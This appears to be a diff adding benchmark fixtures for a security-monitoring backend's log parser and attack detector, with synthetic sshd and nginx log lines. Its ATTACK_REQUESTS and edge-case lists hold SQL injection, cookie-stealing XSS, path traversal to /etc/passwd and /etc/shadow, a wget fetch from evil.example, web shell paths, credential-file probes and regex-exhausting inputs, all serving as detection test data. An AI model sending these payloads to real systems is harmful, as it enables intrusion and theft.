@@ -0,0 +1,265 @@
+"""
+Shared helpers untuk benchmark scripts
+
+Benchmarks run from the backend directory:
+    python -m benchmarks.bench_tail_latency
+
+DATABASE_URL is honoured; without it a throwaway SQLite file is used so the
+scripts work without PostgreSQL (COPY-specific benchmarks need PostgreSQL).
+"""
+import os
+import sys
+import random
+import tempfile
+import time
+
+BACKEND_DIR = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+if BACKEND_DIR not in sys.path:
+    sys.path.insert(0, BACKEND_DIR)
+
+if 'DATABASE_URL' not in os.environ:
+    _db_file = os.path.join(tempfile.mkdtemp(prefix='soc-bench-'), 'bench.db')
+    os.environ['DATABASE_URL'] = f"sqlite:///{_db_file}"
+
+
+SSH_TEMPLATES = [
+    "Dec 23 11:20:{s:02d} server sshd[{pid}]: Accepted password for admin from 192.168.1.{a} port {port} ssh2",
+    "Dec 23 11:20:{s:02d} server sshd[{pid}]: Failed password for root from 103.45.67.{a} port {port} ssh2",
+    "Dec 23 11:20:{s:02d} server sshd[{pid}]: Invalid user hacker from 103.45.67.{a} port {port}",
+    "Dec 23 11:20:{s:02d} server sshd[{pid}]: Connection closed by 103.45.67.{a} port {port} [preauth]",
+    "Dec 23 11:20:{s:02d} server sshd[{pid}]: pam_unix(sshd:session): session opened for user admin by (uid=0)",
+    "Dec 23 11:20:{s:02d} server CRON[{pid}]: pam_unix(cron:session): session closed for user root",
+]
+
+# Internet-facing auth.log: mostly scanner noise, (template, weight)
+AUTH_LOG_MIX = [
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Failed password for root from 103.45.67.{a} port {port} ssh2", 14),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Failed password for invalid user admin from 103.45.67.{a} port {port} ssh2", 10),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Invalid user oracle from 103.45.67.{a} port {port}", 10),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost=103.45.67.{a}  user=root", 10),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: pam_unix(sshd:auth): check pass; user unknown", 6),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Received disconnect from 103.45.67.{a} port {port}:11: Bye Bye [preauth]", 10),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Disconnected from invalid user oracle 103.45.67.{a} port {port} [preauth]", 8),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Disconnected from authenticating user root 103.45.67.{a} port {port} [preauth]", 6),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Connection closed by 103.45.67.{a} port {port} [preauth]", 6),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Connection reset by 103.45.67.{a} port {port} [preauth]", 3),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: error: kex_exchange_identification: read: Connection reset by peer", 3),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Unable to negotiate with 103.45.67.{a} port {port}: no matching host key type found. Their offer: ssh-rsa,ssh-dss [preauth]", 2),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: message repeated 2 times: [ Failed password for root from 103.45.67.{a} port {port} ssh2]", 2),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Accepted publickey for deploy from 10.0.0.{a} port {port} ssh2: ED25519 SHA256:2pD1dn8bPZ3IYnpsbUjp2N4RZbGmUQtj1uFZVVQ4Pjg", 1),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: Accepted password for admin from 192.168.1.{a} port {port} ssh2", 1),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1000) by (uid=0)", 1),
+    ("Dec 23 11:20:{s:02d} server sshd[{pid}]: pam_unix(sshd:session): session closed for user deploy", 1),
+    ("Dec 23 11:20:{s:02d} server sshd-session[{pid}]: Failed password for root from 103.45.67.{a} port {port} ssh2", 1),
+    ("Dec 23 11:20:{s:02d} server CRON[{pid}]: pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)", 2),
+    ("Dec 23 11:20:{s:02d} server CRON[{pid}]: pam_unix(cron:session): session closed for user root", 2),
+    ("Dec 23 11:20:{s:02d} server systemd-logind[{pid}]: New session 4242 of user deploy.", 1),
+    ("Dec 23 11:20:{s:02d} server sudo[{pid}]:   deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx", 1),
+]
+
+ACCESS_TEMPLATES = [
+    '192.168.1.{a} - - [23/Dec/2025:11:20:{s:02d} +0700] "GET /index.html HTTP/1.1" 200 1234 "-" "Mozilla/5.0" 0.001',
+    '192.168.1.{a} - - [23/Dec/2025:11:20:{s:02d} +0700] "GET /api/users?page={port} HTTP/1.1" 200 567 "-" "curl/7.68.0" 0.045',
+    '10.0.0.{a} - - [23/Dec/2025:11:20:{s:02d} +0700] "GET /static/app.js HTTP/1.1" 304 0 "https://example.com/" "Mozilla/5.0 (X11; Linux x86_64)" 0.000 0.000',
+    '103.45.67.{a} - - [23/Dec/2025:11:20:{s:02d} +0700] "GET /admin.php HTTP/1.1" 404 162 "-" "Bot" 0.002',
+    '103.45.67.{a} - - [23/Dec/2025:11:20:{s:02d} +0700] "GET /search?q=1%27+union+select+password+from+users HTTP/1.1" 403 0 "-" "sqlmap/1.7" 0.003',
+]
+
+# Access lines outside the happy path (fast path vs regex equivalence)
+ACCESS_EDGE_CASES = [
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "curl/8.0"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "curl/8.0" 0.010 -',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 502 157 "-" "curl/8.0" - 0.004',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "curl/8.0" "203.0.113.9" 0.010 0.009',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "curl/8.0" "-" 0.010',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "curl/8.0" 0.010 0.009 0.008',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "curl/8.0" 0.010ms',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "curl/8.0" 1.2.3',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "curl/8.0" .',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 - "-" "-"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "" ""',
+    '10.0.0.1 - alice [23/Dec/2025:11:20:00 +0000] "POST /login HTTP/2.0" 302 0 "https://a.example/" "Mozilla/5.0 (X11)"',
+    '10.0.0.1 - - [01/Jan/2026:00:00:00 -0530] "HEAD /health HTTP/1.0" 204 0 "-" "kube-probe/1.29"',
+    '10.0.0.1 - - [31/Feb/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "bad date"',
+    '10.0.0.1 - - [23/dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "lowercase month"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +07:00] "GET / HTTP/1.1" 200 612 "-" "colon offset"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0760] "GET / HTTP/1.1" 200 612 "-" "bad offset"',
+    '10.0.0.1 - - [23/Dec/2025:24:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "bad hour"',
+    '10.0.0.1 - - [3/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "short day"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00] "GET / HTTP/1.1" 200 612 "-" "no offset"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET /a b HTTP/1.1" 400 0 "-" "space in path"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET /a" HTTP/1.1" 200 612 "-" "quote in path"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET /x /a" HTTP/1.1" 200 612 "-" "two quotes"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "\x16\x03\x01" 400 157 "-" "-"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "\\x16\\x03\\x01\\x00" 400 157 "-" "-"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "-" 400 0 "-" "-"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET /\tx HTTP/1.1" 200 612 "-" "escaped tab"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET /\u00e9 HTTP/1.1" 200 612 "-" "Mozilla/5.0 \u00e9t\u00e9"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET /\u0663 HTTP/1.1" \u0662\u0660\u0660 612 "-" "arabic digits"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "tab\there"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "a"b" "quote in referer"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "unterminated',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "ua" "unterminated 0.1',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "ua"0.010',
+    '10.0.0.1 - - [23/Dec/2025] 11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "bracket in time"',
+    '10.0.0.1 -  - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "double space"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET  / HTTP/1.1" 200 612 "-" "double space"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 2OO 612 "-" "letter status"',
+    '::1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "ipv6"',
+    '2001:db8::1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "ipv6"',
+    'proxy: 10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-" "prefix"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200 612 "-"',
+    '10.0.0.1 - - [23/Dec/2025:11:20:00 +0700] "GET / HTTP/1.1" 200',
+    '10.0.0.1 - -',
+    '',
+]
+
+ERROR_TEMPLATES = [
+    '2025/12/23 11:20:{s:02d} [error] 1234#5678: *{pid} open() "/var/www/html/admin.php" failed (2: No such file or directory), client: 103.45.67.{a}, server: localhost, request: "GET /admin.php HTTP/1.1"',
+    '2025/12/23 11:20:{s:02d} [warn] 1234#5678: *{pid} upstream server temporarily disabled while connecting to upstream, client: 10.0.0.{a}, server: localhost',
+]
+
+
+# (method, path, user_agent) untuk attack detection benchmarks
+BENIGN_REQUESTS = [
+    ('GET', '/', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'),
+    ('GET', '/index.html', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Safari/605.1.15'),
+    ('GET', '/api/users?page={n}&sort=name', 'Mozilla/5.0 (X11; Linux x86_64; rv:121.0) Gecko/20100101 Firefox/121.0'),
+    ('GET', '/static/js/app.{n}.min.js', 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 Mobile/15E148 Safari/604.1'),
+    ('GET', '/static/css/site.css?v={n}', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'),
+    ('POST', '/api/orders', 'okhttp/4.12.0'),
+    ('GET', '/products/{n}/reviews?lang=en', 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)'),
+    ('GET', '/search?q=summer+dress&category=women', 'Mozilla/5.0 (Linux; Android 14; SM-A546B) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.6099.144 Mobile Safari/537.36'),
+    ('HEAD', '/health', 'kube-probe/1.29'),
+    ('GET', '/images/banner-{n}.webp', 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.0.0'),
+    ('PUT', '/api/cart/{n}', 'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36'),
+    ('GET', '/blog/2025/12/how-we-scaled-our-api', 'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0.0.0 Safari/537.36'),
+]
+
+ATTACK_REQUESTS = [
+    ('GET', '/search?q=1%27+union+select+password+from+users', 'sqlmap/1.7'),
+    ('GET', "/item?id=1' or '1'='1", 'Mozilla/5.0'),
+    ('GET', '/login?user=admin&pass=x;--', 'python-requests/2.31'),
+    ('GET', '/product?id=5 or 1=1', 'Mozilla/5.0'),
+    ('GET', '/comment?text=<script>alert(1)</script>', 'Mozilla/5.0'),
+    ('GET', '/page?next=javascript:alert(document.cookie)', 'Mozilla/5.0'),
+    ('GET', '/img?src=x onerror=alert(1)', 'Mozilla/5.0'),
+    ('GET', '/download?file=../../../../etc/passwd', 'curl/7.68.0'),
+    ('GET', '/static/..%2f..%2fetc/shadow', 'Nuclei'),
+    ('GET', '/ping?host=127.0.0.1;cat /etc/passwd', 'curl/7.68.0'),
+    ('GET', '/run?cmd=$(wget http://evil.example/x.sh)', 'Wget'),
+    ('GET', '/uploads/c99.php', 'Mozilla/5.0'),
+    ('GET', '/shell.php?cmd=id', 'Mozilla/5.0'),
+    ('GET', '/wp-login.php', 'WPScan v3.8'),
+    ('GET', '/.env', 'Go-http-client/1.1'),
+    ('GET', '/.git/config', 'Go-http-client/1.1'),
+    ('POST', '/xmlrpc.php', 'Mozilla/5.0'),
+    ('GET', '/phpmyadmin/index.php', 'Mozilla/5.0 zgrab/0.x'),
+    ('GET', '/api/export?table=users;drop table users', 'Mozilla/5.0'),
+    ('GET', '/.aws/credentials', 'aws-scanner'),
+]
+
+# Edge cases: ordering inside a category, case, unicode, empty user agent
+DETECTION_EDGE_CASES = [
+    ('GET', '/a?x=select * from t where 1=1 union select 1', None),
+    ('GET', '/a?q=--union-select', ''),
+    ('GET', '/A?Q=UNION%20SELECT', 'SQLMAP'),
+    ('GET', '/x?a=`id`', 'Mozilla/5.0'),
+    ('GET', '/x?a=eval(alert(1))', 'Mozilla/5.0'),
+    ('GET', '/WP-ADMIN/../.ENV', 'Mozilla/5.0'),
+    ('GET', '/\u017f\u0131\u212a?x=\u0130', '\u212aelvin \u017fh'),
+    ('GET', '/backup/c99.PHP?cmd=ls', 'Mozilla/5.0 && curl x'),
+    ('GET', '/x%252e%252e/y', None),
+]
+
+
+def adversarial_requests(size=8192):
+    """
+    (name, (method, path, user_agent)) crafted to make backtracking rules
+    blow up: the fragments repeat but the rest of the match never comes.
+    Each carries the rule's required literal, so the prefilter can't skip it
+    """
+    def fill(fragment, prefix=''):
+        return prefix + fragment * ((size - len(prefix)) // len(fragment))
+    
+    return [
+        ('select-from', ('GET', fill('select from ', '/q?s='), 'Mozilla/5.0')),
+        ('union', ('GET', fill('union ', '/q?s=select+'), 'Mozilla/5.0')),
+        ('script', ('GET', '/', fill('<script>', '</script>'))),
+        ('subshell', ('GET', fill('$(', '/q?s='), 'Mozilla/5.0')),
+        ('backtick', ('GET', fill('a', '/q?s=`'), 'Mozilla/5.0')),
+        ('update-set', ('POST', fill('update ', '/q?s=set+'), 'Mozilla/5.0')),
+    ]
+
+
+def padded_requests(size=8192):
+    """
+    (name, (method, path, user_agent), rule ids) with an attack behind size
+    characters of padding; one of the rule ids must be reported. A payload in
+    the middle of a long field may only be reported as an oversized request
+    """
+    pad = 'a' * size
+    return [
+        ('union-tail', ('GET', f'/q?s={pad}+union+select+1', 'Mozilla/5.0'), {'sqli-union-select'}),
+        ('traversal', ('GET', f'/{pad}/../../etc/passwd', 'Mozilla/5.0'), {'traversal-dotdot-slash'}),
+        ('script-ua', ('GET', '/', f'{pad}<script>alert(1)</script>'), {'xss-script-tag'}),
+        ('subshell-tail', ('GET', f'/q?s={pad}$(id)', 'Mozilla/5.0'), {'cmdi-subshell'}),
+        ('union-middle', ('GET', f'/q?s={pad}+union+select+1+{pad}', 'Mozilla/5.0'),
+         {'sqli-union-select', 'oversized-request'}),
+    ]
+
+
+def request_mix(count, attack_ratio, seed=42):
+    """count (method, path, user_agent) requests, attack_ratio of them from ATTACK_REQUESTS"""
+    rng = random.Random(seed)
+    requests = []
+    for i in range(count):
+        source = ATTACK_REQUESTS if rng.random() < attack_ratio else BENIGN_REQUESTS
+        method, path, user_agent = source[rng.randrange(len(source))]
+        requests.append((method, path.format(n=rng.randrange(1000)), user_agent))
+    return requests
+
+
+def synthetic_lines(templates, count, seed=42):
+    """Generate count log lines from templates (deterministic)"""
+    rng = random.Random(seed)
+    for i in range(count):
+        template = templates[rng.randrange(len(templates))]
+        yield template.format(
+            s=i % 60,
+            a=rng.randrange(1, 255),
+            pid=10000 + i,
+            port=rng.randrange(1024, 65535)
+        )
+
+
+def weighted_templates(mix):
+    """Expand (template, weight) pairs for synthetic_lines"""
+    return [template for template, weight in mix for _ in range(weight)]
+
+
+def write_lines(path, lines):
+    with open(path, 'w', encoding='utf-8') as f:
+        for line in lines:
+            f.write(line + '\n')
+
+
+def timed(func, *args, **kwargs):
+    """Run func, returns (result, elapsed_seconds)"""
+    start = time.perf_counter()
+    result = func(*args, **kwargs)
+    return result, time.perf_counter() - start
+
+
+def percentile(values, pct):
+    if not values:
+        return 0.0
+    ordered = sorted(values)
+    index = min(len(ordered) - 1, int(round(pct / 100.0 * (len(ordered) - 1))))
+    return ordered[index]
+
+
+def print_header(title):
+    print("=" * 60)
+    print(title)
+    print("=" * 60)